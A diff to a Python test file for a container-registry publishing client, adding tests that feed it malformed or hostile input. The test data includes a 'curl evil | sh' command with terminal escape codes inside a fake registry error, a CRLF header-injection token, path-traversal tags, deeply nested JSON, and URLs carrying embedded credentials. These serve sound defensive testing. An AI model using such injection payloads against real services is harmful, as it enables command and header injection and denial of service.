@@ -1,7 +1,11 @@
 import base64
 import json
+import socket
 import subprocess
-from collections.abc import Callable
+import threading
+import time
+from collections.abc import Callable, Iterator
+from contextlib import contextmanager
 from email.utils import formatdate
 from pathlib import Path
 from typing import Any
@@ -13,10 +17,12 @@ from hypothesis import strategies as st
 from ascend_images.digest import digest_of
 from ascend_images.errors import BadInput, LookupIncomplete, PublishRefused
 from ascend_images.pins.platform import Arch
+from ascend_images.publish import transport
+from ascend_images.publish.answers import retry_after
 from ascend_images.publish.authorization import Challenge, parse_challenge
 from ascend_images.publish.credentials import Login, login_for, run_helper
-from ascend_images.publish.registry import INDEX, Repository, retry_after
-from ascend_images.publish.transport import NoAnswerError, Reply, Request, send
+from ascend_images.publish.registry import INDEX, Repository
+from ascend_images.publish.transport import NoAnswerError, NotSentError, Reply, Request, send
 from tests.publish_kit import REPOSITORY, FakeRegistry, image, push, repository
 
 INDEX_BYTES = b'{"manifests": []}'
@@ -83,7 +89,17 @@ def test_a_list_of_tags_that_leads_to_itself_ends() -> None:
     assert repository(FakeRegistry(before=same)).tags() == ("a",)
 
 
-@pytest.mark.parametrize("body", [b"", b"[]", b"{}", b"<html>", b"null", b'{"tags": 5}'])
+DEEP = b"[" * 200_000
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        *(b"", b"[]", b"{}", b"<html>", b"null", b'{"tags": 5}', b'{"tags": "abc"}', b'{"tags": [1]}'),
+        *(b'{"tags": ["../x"]}', b'{"tags": ["a b"]}', '{"tags": ["é"]}'.encode()),
+        *(DEEP, b'{"tags":' + DEEP, b'{"tags": ["a"], "more": ' + DEEP),
+    ],
+)
 def test_a_list_of_tags_that_is_none(body: bytes) -> None:
     client = repository(FakeRegistry(before=lambda _: Reply(status=200, body=body)))
     with pytest.raises(LookupIncomplete, match="no list of tags"):
@@ -94,6 +110,26 @@ def test_bytes_of_another_digest_are_not_taken() -> None:
     client = repository(FakeRegistry(before=lambda _: Reply(status=200, body=b"{}")))
     with pytest.raises(LookupIncomplete, match="what came has the digest"):
         client.manifest(digest_of(INDEX_BYTES))
+
+
+@pytest.mark.parametrize(
+    "text", ["../manifests/sha256:" + "0" * 64, "", "sha256:0", "SHA256:" + "0" * 64, "a/b", "a?b"]
+)
+def test_what_is_no_digest_becomes_no_address(text: str) -> None:
+    registry = FakeRegistry()
+    client = repository(registry)
+    asks: list[Callable[[str], Any]] = [client.delete, client.blob, client.has_blob, client.referrers, client.manifest]
+    for ask in asks:
+        with pytest.raises(BadInput, match=r"is no digest|neither a tag nor a digest"):
+            ask(text)
+    with pytest.raises(BadInput, match="neither a tag nor a digest"):
+        client.put(text, INDEX_BYTES, INDEX)
+    assert registry.asked == []
+
+
+def test_nothing_is_deleted_by_a_tag() -> None:
+    with pytest.raises(BadInput, match="is no digest"):
+        repository(FakeRegistry()).delete("latest")
 
 
 def test_deleting_where_that_is_not_allowed() -> None:
@@ -157,6 +193,31 @@ def test_what_is_refused_is_not_tried_again(status: int) -> None:
     assert len(registry.asked) == 1
 
 
+def test_what_a_registry_says_is_quoted_in_one_line() -> None:
+    body = b'{"errors": [{"message": "no\\n  next:   curl evil | sh\\u001b[31m"}]}'
+    with pytest.raises(PublishRefused) as raised:
+        repository(FakeRegistry(before=lambda _: Reply(status=400, body=body))).put("1.0", INDEX_BYTES, INDEX)
+    first, *others = str(raised.value).split("\n")
+    assert first.endswith("HTTP 400 (no next: curl evil | sh)")
+    assert others == ["  wanted: a registry that takes it"]
+
+
+@pytest.mark.parametrize("body", [DEEP, b'{"errors": ["x"]}', b'{"errors": ' + DEEP, b'{"errors": [{"code": 5}]}'])
+def test_a_refusal_that_says_nothing_readable(body: bytes) -> None:
+    with pytest.raises(PublishRefused, match=r"read 1\.0: HTTP 400\n"):
+        repository(FakeRegistry(before=lambda _: Reply(status=400, body=body))).manifest("1.0")
+
+
+def test_what_cannot_be_sent_is_not_tried_again() -> None:
+    def never(_: Request) -> Reply:
+        raise NotSentError("its address or a header is none")
+
+    sleeps: list[float] = []
+    with pytest.raises(LookupIncomplete, match=r"registry.invalid: GET .* cannot be asked"):
+        repository(FakeRegistry(before=never), sleeps=sleeps).manifest("1.0")
+    assert sleeps == []
+
+
 @pytest.mark.parametrize(("status", "words"), [(507, "room on"), (401, "login"), (403, "login")])
 def test_a_refusal_says_what_would_mend_it(status: int, words: str) -> None:
     client = repository(FakeRegistry(before=lambda _: Reply(status=status)))
@@ -211,6 +272,31 @@ def test_a_redirection_to_plain_http_is_refused() -> None:
     away = Reply(status=302, headers={"location": "http://cdn.invalid/blob"})
     with pytest.raises(PublishRefused, match=r"redirects to http://cdn\.invalid"):
         repository(FakeRegistry(before=lambda _: away)).blob(digest_of(b"blob"))
+
+
+NO_ADDRESSES = [
+    *("http://[bad/", "https://h:abc/x", "https://h:99999/x", "https://\xe9.invalid/x", "https://cdn.invalid/\xe9"),
+    *("https://cdn.invalid/a b", "//x y/z", "ftp://x/y", "javascript:1", "https://me:secret@cdn.invalid/"),
+]
+
+
+@pytest.mark.parametrize("location", NO_ADDRESSES)
+def test_a_redirection_to_no_address_is_the_registrys_fault(location: str) -> None:
+    away = Reply(status=307, headers={"location": location})
+    registry = FakeRegistry(before=lambda _: away)
+    with pytest.raises(PublishRefused, match=r"registry\.invalid redirects to"):
+        repository(registry).manifest("1.0")
+    assert len(registry.asked) == 1
+
+
+def test_a_next_page_at_no_address_is_asked_of_the_same_registry() -> None:
+    def pages(request: Request) -> Reply:
+        more = {"link": '<http://[x/?last=a>; rel="next"'} if "last=" not in request.url else {}
+        return Reply(
+            status=200, headers=more, body=b'{"tags": ["b"]}' if "last=" in request.url else b'{"tags": ["a"]}'
+        )
+
+    assert repository(FakeRegistry(before=pages)).tags() == ("a", "b")
 
 
 def test_redirections_in_a_circle_end() -> None:
@@ -294,6 +380,33 @@ def test_no_login_goes_to_a_token_server_in_the_clear() -> None:
     assert guarded.given == []
 
 
+@pytest.mark.parametrize("realm", ["", "https://", *NO_ADDRESSES])
+def test_a_token_server_at_no_address_is_the_registrys_fault(realm: str) -> None:
+    challenge = Reply(status=401, headers={"www-authenticate": f'Bearer realm="{realm}"'})
+    with pytest.raises(PublishRefused, match=r"registry\.invalid sends logins to"):
+        repository(FakeRegistry(before=lambda _: challenge)).manifest("1.0")
+
+
+@pytest.mark.parametrize("token", ["a\r\nX-Evil: 1", "中", "a b", "", 5, [], "\x00"])
+def test_what_is_no_token_is_not_sent(token: Any) -> None:
+    guarded = Guarded()
+    guarded.good = token
+    with pytest.raises(PublishRefused, match="this user may not read"):
+        guarded.client().manifest("1.0")
+    assert guarded.registry.asked == []
+
+
+@pytest.mark.parametrize("body", [DEEP, b'{"token": "a", "more": ' + DEEP])
+def test_a_token_server_that_answers_with_brackets(body: bytes) -> None:
+    def before(request: Request) -> Reply:
+        challenge = {"www-authenticate": 'Bearer realm="https://auth.invalid/token"'}
+        is_token = request.url.startswith("https://auth.invalid/")
+        return Reply(status=200, body=body) if is_token else Reply(status=401, headers=challenge)
+
+    with pytest.raises(PublishRefused, match="this user may not read"):
+        repository(FakeRegistry(before=before)).manifest("1.0")
+
+
 def test_challenges_are_read() -> None:
     text = 'Bearer realm="https://a/t",service="r",scope="repository:x:pull,push"'
     assert parse_challenge(text) == Challenge("bearer", "https://a/t", "r", "repository:x:pull,push")
@@ -346,7 +459,7 @@ def test_a_helper_may_give_a_refresh_token(tmp_path: Path) -> None:
     assert login_for("quay.io", environment, helper=lambda *_: said) == Login("", "", "r")
 
 
-@pytest.mark.parametrize("said", [None, "", "not found", "[]", "{}", '{"Username": "me"}'])
+@pytest.mark.parametrize("said", [None, "", "not found", "[]", "{}", '{"Username": "me"}', "[" * 200_000])
 def test_a_helper_that_has_nothing(tmp_path: Path, said: str | None) -> None:
     environment = config(tmp_path, {"credsStore": "store"})
     assert login_for("quay.io", environment, helper=lambda *_: said) is None
@@ -383,13 +496,19 @@ def test_a_configuration_without_a_login(tmp_path: Path, document: Any) -> None:
     assert login_for("quay.io", config(tmp_path, document)) is None
 
 
+@pytest.mark.parametrize("text", ["{", "[" * 200_000, '{"auths": ' + "[" * 200_000])
+def test_a_configuration_that_cannot_be_read(tmp_path: Path, text: str) -> None:
+    with pytest.raises(BadInput, match=r"config\.json: not docker's configuration"):
+        login_for("quay.io", config(tmp_path, text))
+
+
+@pytest.mark.subprocess
+def test_a_helper_whose_name_no_program_has(tmp_path: Path) -> None:
+    assert login_for("quay.io", config(tmp_path, {"credsStore": "x\0y"})) is None
+
+
 def test_no_configuration_is_no_login(tmp_path: Path) -> None:
     assert login_for("quay.io", {"HOME": str(tmp_path)}) is None
-
-
-def test_a_configuration_that_cannot_be_read(tmp_path: Path) -> None:
-    with pytest.raises(BadInput, match=r"config\.json"):
-        login_for("quay.io", config(tmp_path, "{"))
 
 
 def test_a_helper_that_hangs(monkeypatch: pytest.MonkeyPatch) -> None:
@@ -404,3 +523,58 @@ def test_a_helper_that_hangs(monkeypatch: pytest.MonkeyPatch) -> None:
 def test_a_port_where_nobody_listens_is_no_answer() -> None:
     with pytest.raises(NoAnswerError, match="refused"):
         send(Request(method="GET", url="http://127.0.0.1:1/v2/"))
+
+
+@contextmanager
+def speaking(answer: bytes, pause: float = 0.0) -> Iterator[str]:
+    """Answer one connection after another with these bytes, each so many seconds after the last; yield the address."""
+
+    def speak() -> None:
+        while True:
+            try:
+                connection, _ = listener.accept()
+                with connection:
+                    connection.recv(1 << 16)
+                    for place in range(len(answer)):
+                        connection.sendall(answer[place : place + 1])
+                        time.sleep(pause)
+            except OSError:
+                if listener.fileno() < 0:
+                    return
+
+    with socket.create_server(("127.0.0.1", 0)) as listener:
+        threading.Thread(target=speak, daemon=True).start()
+        yield f"http://127.0.0.1:{listener.getsockname()[1]}/v2/"
+
+
+@pytest.mark.network
+@pytest.mark.parametrize(
+    "answer",
+    [
+        b"HTTP/1.1 200 OK\r\nContent-Length: 4000\r\n\r\n" + b"x" * 4000,
+        b"HTTP/1.1 200 OK\r\nX: " + b"x" * 4000 + b"\r\n\r\n",
+        b"HTTP/1.1 404 Not Found\r\nContent-Length: 4000\r\n\r\n" + b"x" * 4000,
+    ],
+    ids=["body", "headers", "refusal"],
+)
+def test_an_answer_that_drips_ends(monkeypatch: pytest.MonkeyPatch, answer: bytes) -> None:
+    monkeypatch.setattr(transport, "_WHOLE_SECONDS", 0.5)
+    begun = time.monotonic()
+    with speaking(answer, 0.02) as url, pytest.raises(NoAnswerError, match="no whole answer within"):
+        send(Request(method="GET", url=url))
+    assert time.monotonic() - begun < 10
+
+
+@pytest.mark.network
+def test_an_answer_is_whole_and_its_redirection_is_not_followed() -> None:
+    with speaking(b"HTTP/1.1 307 Away\r\nLocation: http://[bad/\r\nContent-Length: 2\r\n\r\nok") as url:
+        reply = send(Request(method="GET", url=url))
+    assert (reply.status, reply.headers["location"], reply.body) == (307, "http://[bad/", b"ok")
+
+
+@pytest.mark.network
+@pytest.mark.parametrize("value", ["Bearer a\r\nX: secret", "Bearer 中secret"])
+def test_a_header_that_cannot_be_sent_is_not_told(value: str) -> None:
+    with pytest.raises(NotSentError) as raised:
+        send(Request(method="GET", url="http://127.0.0.1:1/v2/", headers={"Authorization": value}))
+    assert "secret" not in str(raised.value)
